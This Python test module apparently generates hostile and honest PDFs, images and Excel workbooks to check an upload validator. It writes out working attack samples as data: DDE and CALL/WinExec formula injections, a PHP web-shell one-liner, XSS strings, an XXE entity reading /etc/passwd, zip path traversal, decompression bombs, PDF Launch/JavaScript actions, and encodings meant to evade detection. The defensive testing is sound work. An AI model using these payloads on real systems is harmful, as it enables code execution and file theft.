"""Files that mean harm and honest ones of every kind that is taken, made anew from a seed; nothing is fetched."""

import html
import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator

import openpyxl
import pikepdf
import xlsxwriter
from PIL import Image

from paritrana.core.filetypes import JPEG, PNG, FileKind, kind_by_name
from tests.files import samples
from tests.nominations.pages import paper

SIGNS = b"PK\x03\x04", b"<html><script>", b"MZ\x90\x00", b"%PDF-1.7\n", bytes(5000)


def document(change: Callable[[pikepdf.Pdf], None] = lambda pdf: None, **saved: object) -> bytes:
    """A PDF of one page after a change, as a library writes it; objects go into streams where `saved` says so."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    held = io.BytesIO()
    pdf.save(held, **saved)
    return held.getvalue()


def acts(action: dict[str, object]) -> Iterator[bytes]:
    """An action at every place where one can stand, plain and in compressed streams of objects."""
    places: list[Callable[[pikepdf.Pdf, pikepdf.Object], None]] = [
        lambda pdf, act: pdf.Root.__setitem__("/OpenAction", act),
        lambda pdf, act: pdf.Root.__setitem__("/AA", pikepdf.Dictionary(WC=act)),
        lambda pdf, act: pdf.pages[0].obj.__setitem__("/AA", pikepdf.Dictionary(O=act)),
        lambda pdf, act: pdf.pages[0].obj.__setitem__(
            "/Annots", pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], A=act)])
        ),
        lambda pdf, act: pdf.Root.__setitem__("/Deep", pikepdf.Array([pikepdf.Array([pikepdf.Dictionary(Next=act)])])),
        lambda pdf, act: pdf.Root.__setitem__("/OpenAction", pdf.make_indirect(act)),
    ]
    for place in places:
        for mode in (pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate):
            yield document(lambda pdf, place=place: place(pdf, pikepdf.Dictionary(action)), object_stream_mode=mode)


def hostile_documents() -> Iterator[tuple[str, bytes]]:
    for kind in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/Rendition"):
        for content in acts({"/S": pikepdf.Name(kind), "/F": pikepdf.String("x")}):
            yield "file_active", content
    for address in ("file:///etc/passwd", "javascript:alert(1)", "\\\\host\\share", "data:text/html,x"):
        for content in acts({"/S": pikepdf.Name.URI, "/URI": pikepdf.String(address)}):
            yield "file_links", content
    yield "file_active", document(lambda pdf: pdf.Root.__setitem__("/AcroForm", pikepdf.Dictionary(XFA=[])))
    yield "file_embeds", document(lambda pdf: pdf.attachments.__setitem__("a.exe", b"MZ"))
    for kind in ("RichMedia", "FileAttachment", "3D", "Movie", "Screen", "Sound"):
        annotation = pikepdf.Dictionary({"/Type": pikepdf.Name.Annot, "/Subtype": pikepdf.Name(f"/{kind}")})
        yield (
            "file_embeds",
            document(lambda pdf, one=annotation: pdf.pages[0].obj.__setitem__("/Annots", pikepdf.Array([one]))),
        )
    for revision in (4, 6):
        locked = pikepdf.Encryption(user="rahasia", owner="rahasia", R=revision)
        yield "file_locked", document(encryption=locked)
    yield "file_pages", document(lambda pdf: pdf.pages.extend([pdf.pages[0]] * 1000))
    yield (
        "file_page_size",
        document(lambda pdf: pdf.pages[0].obj.__setitem__("/MediaBox", pikepdf.Array([0, 0, 9, 14_401]))),
    )
    deep = pikepdf.Array([])
    for _level in range(120):
        deep = pikepdf.Array([deep])
    yield "file_heavy", document(lambda pdf: pdf.Root.__setitem__("/Deep", deep))
    empty = io.BytesIO()
    pikepdf.new().save(empty)
    yield "file_unreadable", empty.getvalue()
    for sign in SIGNS[:4]:
        yield "file_trailing", paper() + sign
    for end in (9, 40, 120):
        yield "file_unreadable", paper()[:end]


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def hostile_pictures() -> Iterator[tuple[FileKind, str, bytes]]:
    for kind, good in ((JPEG, samples.JPEG), (PNG, samples.PNG)):
        for sign in SIGNS:
            yield kind, "file_trailing", good + sign
        for end in (12, len(good) // 2, len(good) - 3):
            yield kind, "file_unreadable", good[:end]
    wide = chunk(b"IHDR", struct.pack(">IIBBBBB", 12_001, 1, 8, 2, 0, 0, 0))
    many = chunk(b"IHDR", struct.pack(">IIBBBBB", 11_000, 11_000, 8, 2, 0, 0, 0))
    for head in (wide, many):
        yield PNG, "file_pixels", samples.PNG[:8] + head + chunk(b"IDAT", zlib.compress(bytes(9))) + chunk(b"IEND", b"")
    moving = io.BytesIO()
    first, second = Image.new("RGB", (8, 8), "white"), Image.new("RGB", (8, 8), "black")
    first.save(moving, "PNG", save_all=True, append_images=[second])
    yield PNG, "file_frames", moving.getvalue()
    pair = io.BytesIO()
    first.save(pair, "MPO", save_all=True, append_images=[second])
    yield JPEG, "file_frames", pair.getvalue()
    size = samples.JPEG.index(b"\xff\xc0") + 5
    yield JPEG, "file_pixels", samples.JPEG[:size] + struct.pack(">HH", 50_000, 50_000) + samples.JPEG[size + 4 :]


def workbook(*members: tuple[str, bytes], deflated: bool = True) -> bytes:
    """A workbook with members more."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED if deflated else zipfile.ZIP_STORED) as whole:
        for name, content in [(name, b"<x/>") for name in samples.WORKBOOK] + list(members):
            whole.writestr(name, content)
    return held.getvalue()


def sheet(formula: bytes) -> bytes:
    return workbook(("xl/worksheets/sheet1.xml", b"<worksheet><c><f>" + formula + b"</f></c></worksheet>"))


def relation(kind: str, target: str) -> bytes:
    text = f'<R><Relationship Id="a" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></R>'
    return workbook(("xl/worksheets/_rels/sheet1.xml.rels", text.encode()))


def typed(content_types: bytes) -> bytes:
    """A workbook whose list of content types says something else."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as whole:
        for name in samples.WORKBOOK:
            whole.writestr(name, content_types if name == "[Content_Types].xml" else b"<x/>")
    return held.getvalue()


def longer_than_it_is() -> bytes:
    """Both headers of a member promise more bytes than come out of it."""
    content = bytearray(workbook(("xl/x.xml", b"x" * 100)))
    local, central = content.rindex(b"PK\x03\x04"), content.rindex(b"PK\x01\x02")
    struct.pack_into("<L", content, local + 22, 200)
    struct.pack_into("<L", content, central + 24, 200)
    return bytes(content)


def with_a_second_directory(good: bytes) -> bytes:
    """The end says nothing, a larger form of it beside says where the directory is."""
    at = good.rindex(b"PK\x05\x06")
    entries, size, offset = struct.unpack_from("<H2L", good, at + 10)
    large = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, offset)
    pointer = struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1)
    end = good[at : at + 12] + struct.pack("<2L", 0xFFFFFFFF, 0xFFFFFFFF) + good[at + 20 :]
    return good[:at] + large + pointer + end


def hostile_workbooks() -> Iterator[tuple[str, bytes]]:
    for name in ("xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/dialogsheets/s.xml", "xl/activeX/activeX1.bin"):
        yield "workbook_macros", workbook((name, b"x"))
    yield "workbook_outside", workbook(("xl/externalLinks/externalLink1.xml", b"<x/>"))
    yield "workbook_outside", workbook(("xl/connections.xml", b"<x/>"))
    yield "file_embeds", workbook(("xl/embeddings/oleObject1.bin", b"x"))
    for formula in (
        b"cmd|'/c calc'!A1",
        b"[1]Sheet1!A1",
        b'WEBSERVICE("http://x")',
        b"'file:///x'!A1",
        b'RTD("a",,"b")',
    ):
        yield "workbook_outside", sheet(formula)
    for kind, target in (("oleObject", "http://x"), ("attachedTemplate", "http://x"), ("hyperlink", "file:///x")):
        yield "workbook_outside", relation(kind, target)
    for size in (1, 20, 127):
        yield "workbook_bomb", workbook(("xl/worksheets/sheet1.xml", bytes(size * 1024**2)))
    yield "workbook_bomb", workbook(*((f"xl/{no}.xml", random.Random(no).randbytes(30) * 3000) for no in range(1600)))
    yield "workbook_bomb", workbook(*((f"xl/{no}.xml", b"") for no in range(2000)))
    for text in (b'<!DOCTYPE x [<!ENTITY a "b">]><x/>', "<!DOCTYPE x><x/>".encode("utf-16"), b"<!doctype x><x/>"):
        yield "workbook_broken", workbook(("xl/styles.xml", text))
    for name in ("../xl/x.xml", "/xl/x.xml"):
        yield "workbook_broken", workbook((name, b"x"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that a name comes twice is the point
        twice = workbook(("xl/x.xml", b"1"), ("xl/x.xml", b"2"))
    yield "workbook_broken", twice
    good = workbook()
    yield "file_trailing", good + b"MZ"
    yield "file_trailing", b"MZ" + good
    yield "workbook_broken", good[:30]
    yield "workbook_broken", good.replace(b"xl/workbook.xml", b"xl/workbooX.xml", 1)
    yield "workbook_macros", typed(b"<Types>application/vnd.ms-excel.sheet.macroEnabled.main+xml</Types>")
    yield "workbook_broken", longer_than_it_is()
    yield "workbook_broken", with_a_second_directory(good)
    # As a spreadsheet program reads it: in sections of text, between remarks, by the types of parts.
    for text in (b"<![CDATA[cmd|'/c calc'!A1]]>", b"cmd<!-- -->|'/c calc'!A1", b"cmd&#124;'/c calc'!A1"):
        yield "workbook_outside", sheet(text)
    for kind, code in (("vba&#80;roject", "workbook_macros"), ("external&#76;ink", "workbook_outside"),
                       ("ole&#79;bject", "file_embeds")):  # fmt: skip
        yield code, workbook(("xl/_rels/workbook.xml.rels", f"<R><Relationship Type='http://x/{kind}'/></R>".encode()))
    yield "workbook_broken", workbook(("xl/_rels/workbook.xml.rels", b"<R><Relationship"))
    between = good.index(b"PK\x01\x02")
    bent = bytearray(good[:between] + b"MZ" + good[between:])
    struct.pack_into("<L", bent, len(bent) - 6, between + 2)
    yield "file_trailing", bytes(bent)
    name = good.rindex(b"PK\x01\x02") + 28  # where the entry says how long its name is
    yield "workbook_broken", good[:name] + b"\x2d" + good[name + 1 :]
    # The directory says less than what lies at the place, or calls the member locked.
    stored = workbook(("xl/x.xml", b"x" * 100), deflated=False)
    at = stored.rindex(b"PK\x01\x02")
    yield "workbook_broken", stored[: at + 24] + struct.pack("<L", 10) + stored[at + 28 :]
    yield "file_locked", stored[: at + 8] + struct.pack("<H", 1) + stored[at + 10 :]


# Many more of the same classes, each drawn by lot ---------------------------------------------------------------------

BLANK = b"\r\n\t \x00"  # may stand behind a document
STRANGERS = (
    b"MZ\x90\x00\x03" + bytes(60), b"\x7fELF\x02\x01\x01" + bytes(9), b"PK\x03\x04" + bytes(26),
    b"PK\x05\x06" + bytes(18),
    b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08" + bytes(7), b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
    b"<html><script>alert(1)</script></html>", b"<?php system($_GET[0]); ?>", b"#!/bin/sh\nid\n", b"%!PS-Adobe-3.0\n",
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", b"BM" + bytes(54), b"II*\x00" + bytes(20), b"RIFF\x24\x00\x00\x00WEBPVP8 ",
    b"\x00\x00\x00\x18ftypmp42" + bytes(16), b"ID3\x03" + bytes(7), b"{\\rtf1\\object}", b"%PDF-1.7\n",
    b"\x89PNG\r\n\x1a\n",
    b"From: a@b\r\nMIME-Version: 1.0\r\n\r\n", b"a;b;c\r\n1;2;3\r\n", b'{"a": 1}',
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"\x00" * 100,
    b"=cmd|'/c calc'!A1", b"@echo off\r\n", "\ufeffteks".encode("utf-16"), b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
)  # fmt: skip
REACHES = (
    "cmd|'/c calc'!A1", "[1]Sheet1!A1", "SUM(A1,[2]Data!B2:B9)", "'[1]Sheet 1'!A1", '"a"&[1]!Nama',
    'WEBSERVICE("http://elsewhere.test/"&A1)',
    'FILTERXML(A1,"//x")', "'file:///etc/passwd'#$Sheet1.A1", 'RTD("a",,"b")',
    'CALL("kernel32","WinExec","JCJ","calc",0)', "DDE|topic!item",
    'HYPERLINK("http://elsewhere.test/?"&A1)', "'C:\\\\data\\\\[rekap.xlsx]Lembar'!A1", 'REGISTER.ID("a","b")',
    "MSEXCEL|'\\\\..\\\\..\\\\cmd.exe'!A1",
)  # fmt: skip
PLACES_OF_FORMULAS = (
    ("xl/worksheets/sheet1.xml", "f"), ("xl/worksheets/sheet9.xml", "x:f"), ("xl/worksheets/sheet1.xml", "a-b.c:f"),
    ("xl/lain.xml", "definedName"),
    ("xl/worksheets/sheet2.xml", "formula"), ("xl/worksheets/sheet2.xml", "formula1"), ("xl/worksheets/sheet2.xml",
    "x14:formula2"),
    ("xl/tables/table1.xml", "calculatedColumnFormula"), ("xl/worksheets/sheet1.dat", "f"), ("xl/worksheets/lembar",
    "f"), ("XL/Worksheets/S.XML", "xm:f"),
)  # fmt: skip
KINDS_OF_PARTS = (
    "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "http://x/externalLink",
    "http://x/oleObject", "http://x/package",
    "http://x/attachedTemplate", "http://x/connections", "http://x/control", "http://x/ui/extensibility",
    "http://x/xlMacrosheet", "http://x/queryTable",
)  # fmt: skip
TYPES_OF_PARTS = (
    "application/vnd.ms-office.vbaProject", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "application/vnd.ms-office.activeX+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    "application/vnd.openxmlformats-officedocument.oleObject",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
    "application/vnd.ms-excel.macrosheet+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml",
)  # fmt: skip
ACTIONS = (
    "JavaScript",
    "Launch",
    "SubmitForm",
    "ImportData",
    "GoToR",
    "GoToE",
    "Rendition",
    "Movie",
    "Sound",
    "RichMediaExecute",
    "GoTo3DView",
)
NAMES = {"PDF": "bukti.pdf", "JPG": "foto.jpg", "PNG": "cap.png", "XLSX": "rekap.xlsx"}


def disguised(chance: random.Random, text: str) -> str:
    """The text as XML may write it: signs as numbers, in sections of plain text, with remarks in between."""
    how = chance.randrange(5)
    if how == 0:
        return html.escape(text, quote=False)
    if how == 1:
        return "".join(f"&#{ord(sign)};" for sign in text)
    if how == 2:
        return "".join(
            f"&#x{ord(sign):X};" if chance.random() < 0.5 else html.escape(sign, quote=False) for sign in text
        )
    if how == 3:
        return f"<![CDATA[{text}]]>"
    place = chance.randrange(1, len(text))
    return (
        html.escape(text[:place], quote=False)
        + chance.choice(("<!-- -->", "<?x y?>"))
        + html.escape(text[place:], quote=False)
    )


def hostile_by_lot(chance: random.Random) -> tuple[str, str, bytes]:
    """A file that must be refused: its family, its name, its bytes."""
    family = chance.choice(
        ("stranger", "wrong kind", "glued", "cut", "action", "formula", "part", "archive", "pixels", "large")
    )
    name, good = good_by_lot(chance)
    kind = kind_by_name(name)
    if family == "stranger":
        return (
            family,
            chance.choice(tuple(NAMES.values())),
            chance.choice(STRANGERS) + chance.randbytes(chance.randrange(0, 400)),
        )
    if family == "wrong kind":
        other = chance.choice([one for one in NAMES.values() if kind_by_name(one) is not kind])
        return family, other, good
    if family == "glued":
        stranger = chance.choice([one for one in STRANGERS if one.strip(BLANK) and not good.startswith(one[:4])])
        return family, name, good + stranger if chance.random() < 0.7 else stranger + good
    if family == "cut":
        return family, name, good[: chance.randrange(len(good) // 20, len(good) * 19 // 20)]
    if family == "action":
        action: dict[str, object] = {"/S": pikepdf.Name("/" + chance.choice(ACTIONS)), "/F": pikepdf.String("x")}
        if chance.random() < 0.3:
            address = chance.choice(
                (
                    "file:///etc/passwd",
                    "javascript:alert(1)",
                    "\\\\host\\share",
                    "data:text/html,x",
                    "smb://x",
                    "HTTPS_//x",
                )
            )
            action = {"/S": pikepdf.Name.URI, "/URI": pikepdf.String(address)}
        return family, NAMES["PDF"], chance.choice(list(acts(action)))
    if family == "formula":
        place, element = chance.choice(PLACES_OF_FORMULAS)
        text = disguised(chance, chance.choice(REACHES))
        attributes = chance.choice(("", ' t="shared"', ' ref="A1&gt;B"', " ref='>'", "\n"))
        body = f"<s xmlns:x='x'><c><{element}{attributes}>{text}</{element}></c></s>".encode()
        if chance.random() < 0.1:
            coding = chance.choice(("utf-7", "utf-16", "cp037", "iso-2022-kr"))
            body = f'<?xml version="1.0" encoding="{coding}"?>'.encode() + body
        return family, NAMES["XLSX"], workbook((place, b"\xef\xbb\xbf" * (chance.random() < 0.2) + body))
    if family == "part":
        said = chance.choice(KINDS_OF_PARTS)
        coded = "".join(f"&#{ord(sign)};" for sign in said) if chance.random() < 0.5 else said
        if chance.random() < 0.5:
            mode = chance.choice(("Internal", "External"))
            body = f"<R><r:Relationship xmlns:r='r' Id='>' Type='{coded}' Target='x' TargetMode='{mode}'/></R>"
            return family, NAMES["XLSX"], workbook(("xl/_rels/workbook.xml.rels", body.encode()))
        said = chance.choice(TYPES_OF_PARTS)
        coded = "".join(f"&#x{ord(sign):x};" for sign in said) if chance.random() < 0.5 else said
        return (
            family,
            NAMES["XLSX"],
            typed(f"<Types><Override PartName='/xl/a>b.bin' ContentType='{coded}'/></Types>".encode()),
        )
    if family == "archive":
        return family, NAMES["XLSX"], _bent_archive(chance)
    if family == "pixels":
        width, height = chance.choice(
            ((12_001, 8), (8, 60_000), (8000, 8000), (2**31 - 1, 2**31 - 1), (65_535, 65_535))
        )
        if chance.random() < 0.5:
            head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, chance.choice((0, 2, 6)), 0, 0, 0))
            return (
                family,
                NAMES["PNG"],
                samples.PNG[:8] + head + chunk(b"IDAT", zlib.compress(bytes(9))) + chunk(b"IEND", b""),
            )
        size = samples.JPEG.index(b"\xff\xc0") + 5
        pair = struct.pack(">HH", min(height, 65_535), min(width, 65_535))
        return family, NAMES["JPG"], samples.JPEG[:size] + pair + samples.JPEG[size + 4 :]
    if chance.random() < 0.5:
        return family, name, b""
    pages = chance.randrange(1001, 1200)
    if chance.random() < 0.5:
        return family, NAMES["PDF"], document(lambda pdf: pdf.pages.extend([pdf.pages[0]] * pages))
    side = chance.randrange(14_401, 10**6)
    return (
        family,
        NAMES["PDF"],
        document(lambda pdf: pdf.pages[0].obj.__setitem__("/MediaBox", pikepdf.Array([0, 0, 9, side]))),
    )


def _bent_archive(chance: random.Random) -> bytes:
    """A workbook whose archive lies, hides something, or unpacks to far more than it is."""
    how = chance.randrange(8)
    if how == 0:
        return workbook(("xl/worksheets/sheet1.xml", bytes(chance.randrange(1, 60) * 1024**2)))
    if how == 1:
        return workbook((chance.choice(("../x.xml", "/etc/x.xml", "xl/../../x", "xl\\..\\x.xml", "..")), b"<x/>"))
    if how == 2:
        name = chance.choice(
            (
                "xl/vbaProject.bin",
                "xl/externalLinks/e.xml",
                "xl/embeddings/a.bin",
                "xl/activeX/a.xml",
                "xl/connections.xml",
            )
        )
        return workbook((name.upper() if chance.random() < 0.5 else name, b"x"))
    if how == 3:
        text = chance.choice(
            (b"<!DOCTYPE x>", b"<!doctype x [<!ENTITY a 'b'>]>", b"<!ENTITY x SYSTEM 'file:///etc/passwd'>")
        )
        return workbook(("xl/styles.xml", b"<?xml version='1.0'?>" + text + b"<x/>"))
    good = workbook(("xl/x.xml", chance.randbytes(200)), deflated=chance.random() < 0.5)
    directory = good.index(b"PK\x01\x02")
    if how == 4:  # bytes of something else before the directory, where no member reaches
        stranger = b"MZ" + chance.randbytes(chance.randrange(1, 90))
        end = good.rindex(b"PK\x05\x06")
        (offset,) = struct.unpack_from("<L", good, end + 16)
        bent = bytearray(good[:directory] + stranger + good[directory:])
        struct.pack_into("<L", bent, end + len(stranger) + 16, offset + len(stranger))
        return bytes(bent)
    if how == 5:  # a remark behind the end
        remark = b"<script>" + chance.randbytes(chance.randrange(1, 300))
        return good[:-2] + struct.pack("<H", len(remark)) + remark
    field, size = chance.choice(((8, 2), (10, 2), (20, 4), (24, 4), (28, 2), (42, 4)))
    at = good.rindex(b"PK\x01\x02") + field
    old = int.from_bytes(good[at : at + size], "little")
    new = (old ^ (1 << chance.randrange(3 if field == 10 else 1, 6))) if field == 8 else old + chance.randrange(1, 40)
    if field == 8:
        new = old | chance.choice((0x01, 0x40))
    return good[:at] + new.to_bytes(size, "little") + good[at + size :]


def good_by_lot(chance: random.Random) -> tuple[str, bytes]:
    """A file that must be taken: its name and its bytes."""
    return chance.choice((_good_document, _good_photo, _good_drawing, _good_workbook))(chance)


def _good_document(chance: random.Random) -> tuple[str, bytes]:
    if chance.random() < 0.2:
        return "SK Bupati.PDF", paper(chance.randbytes(20).hex().encode()) + chance.choice((b"", b"\n", b"\r\n"))
    if chance.random() < 0.3:
        held = io.BytesIO()
        Image.effect_noise((chance.randrange(20, 300), chance.randrange(20, 300)), 60).save(
            held, "PDF", resolution=chance.choice((72, 150, 300))
        )
        return "pindai 01.pdf", held.getvalue()

    def change(pdf: pikepdf.Pdf) -> None:
        for _no in range(chance.randrange(0, 9)):
            pdf.add_blank_page(page_size=(chance.randrange(200, 3000), chance.randrange(200, 3000)))
        pdf.docinfo["/Title"] = chance.choice(("Peraturan Bupati", "Laporan /JavaScript 2025", "DPA <b>"))
        pdf.docinfo["/Author"] = "Dinas Contoh"
        if chance.random() < 0.4:
            web = pikepdf.Dictionary(
                S=pikepdf.Name.URI, URI=pikepdf.String("https://contoh.go.id/" + chance.randbytes(3).hex())
            )
            link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=web)
            pdf.pages[0].obj["/Annots"] = pikepdf.Array([link])
        if chance.random() < 0.3:
            pdf.Root["/OpenAction"] = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        if chance.random() < 0.3:
            with pdf.open_outline() as outline:
                outline.root.append(pikepdf.OutlineItem("Bab 1", 0))
        stream = b"BT /F1 12 Tf (Realisasi 100%) Tj ET " * chance.randrange(1, 50)
        pdf.pages[0].obj["/Contents"] = pdf.make_stream(stream)

    saved: dict[str, object] = {"linearize": chance.random() < 0.3}
    saved["object_stream_mode"] = chance.choice((pikepdf.ObjectStreamMode.generate, pikepdf.ObjectStreamMode.disable))
    if chance.random() < 0.2:
        saved["encryption"] = pikepdf.Encryption(user="", owner="pemilik", R=chance.choice((4, 6)))
    return "dokumen.pdf", document(change, **saved)


def _picture(chance: random.Random, mode: str) -> Image.Image:
    size = chance.randrange(8, 260), chance.randrange(8, 260)
    if chance.random() < 0.5:
        return Image.effect_noise(size, 70).convert(mode)
    return Image.new("RGB", size, chance.choice(("white", "navy", "#c0ffee"))).convert(mode)


def _good_photo(chance: random.Random) -> tuple[str, bytes]:
    held = io.BytesIO()
    options: dict[str, object] = {"quality": chance.randrange(20, 100), "progressive": chance.random() < 0.4}
    if chance.random() < 0.4:
        exif = Image.Exif()
        exif[0x010F], exif[0x0112] = "Kamera", chance.randrange(1, 9)
        options["exif"] = exif
    if chance.random() < 0.3:
        options["comment"] = b"<b>catatan</b>"
    if chance.random() < 0.3:
        options["subsampling"] = chance.choice((0, 1, 2))
    _picture(chance, chance.choice(("RGB", "L", "CMYK"))).save(held, "JPEG", **options)
    return chance.choice(("IMG_0001.JPG", "foto lokasi.jpeg", "a.jpg")), held.getvalue()


def _good_drawing(chance: random.Random) -> tuple[str, bytes]:
    held = io.BytesIO()
    _picture(chance, chance.choice(("RGB", "L", "P", "RGBA", "1", "LA", "I;16"))).save(
        held, "PNG", optimize=chance.random() < 0.3
    )
    return chance.choice(("cap.png", "tangkapan layar.PNG")), held.getvalue()


def _good_workbook(chance: random.Random) -> tuple[str, bytes]:
    held = io.BytesIO()
    if chance.random() < 0.4:
        book = openpyxl.Workbook()
        page = book.active
        for row in range(chance.randrange(1, 40)):
            page.append([row, f"Desa {row}", chance.random(), "=SUM(A1:A3)", "0012"])
        page["H1"].hyperlink = "https://contoh.go.id"
        book.save(held)
        return "rekap.xlsx", held.getvalue()
    made = xlsxwriter.Workbook(held, {"in_memory": True, "constant_memory": False})
    page = made.add_worksheet("Rekap")
    for row in range(chance.randrange(1, 60)):
        page.write_row(row, 0, [row, f"Desa {row} & <b>", chance.random()])
        page.write_formula(
            row, 4, chance.choice(('=A1&" | "&B1', "=SUM(A1:A9)*1.5", "=VLOOKUP(A1,Rekap!A:B,2,0)", "=IF(A1>0,1,0)"))
        )
    if chance.random() < 0.4:
        page.add_table("G1:H4", {"columns": [{"header": "2024"}, {"header": "2025"}]})
        page.write_formula("K1", "=SUM(Table1[2024])+Rekap!A1")
    if chance.random() < 0.4:
        page.write_url(
            "J9", chance.choice(("https://contoh.go.id/?a=1&b=2", "mailto:a@contoh.test", "internal:Rekap!A1"))
        )
    if chance.random() < 0.3:
        page.write_comment("J3", "catatan")
        page.conditional_format("A1:A9", {"type": "formula", "criteria": "=$A1>3"})
        page.data_validation("L1", {"validate": "list", "source": ["ya", "tidak"]})
    if chance.random() < 0.3:
        chart = made.add_chart({"type": "column"})
        chart.add_series({"values": "=Rekap!$A$1:$A$3"})
        page.insert_chart("M1", chart)
        made.define_name("Batas", "=Rekap!$A$1")
    if chance.random() < 0.3:
        page.insert_image("N1", "cap.png", {"image_data": io.BytesIO(samples.PNG)})
    made.close()
    return chance.choice(("Rekap PU.xlsx", "DATA.XLSX")), held.getvalue()


def broken_by_lot(chance: random.Random) -> tuple[str, bytes]:
    """A file of which nobody knows whether it is taken: an honest one with some bytes changed, moved or doubled."""
    name, good = good_by_lot(chance)
    content = bytearray(good)
    for _no in range(chance.choice((1, 1, 2, 5, 20))):
        place = chance.randrange(len(content))
        how = chance.random()
        if how < 0.5:
            content[place] ^= 1 << chance.randrange(8)
        elif how < 0.7:
            content[place : place + 4] = chance.choice(
                (b"\xff" * 4, bytes(4), b"\x7f\xff\xff\xff", b"\x01\x00\x00\x00")
            )
        elif how < 0.85:
            content[place:place] = content[place : place + chance.randrange(1, 300)]
        else:
            del content[place : place + chance.randrange(1, 300)]
            content = content or bytearray(b"x")
    return name, bytes(content)
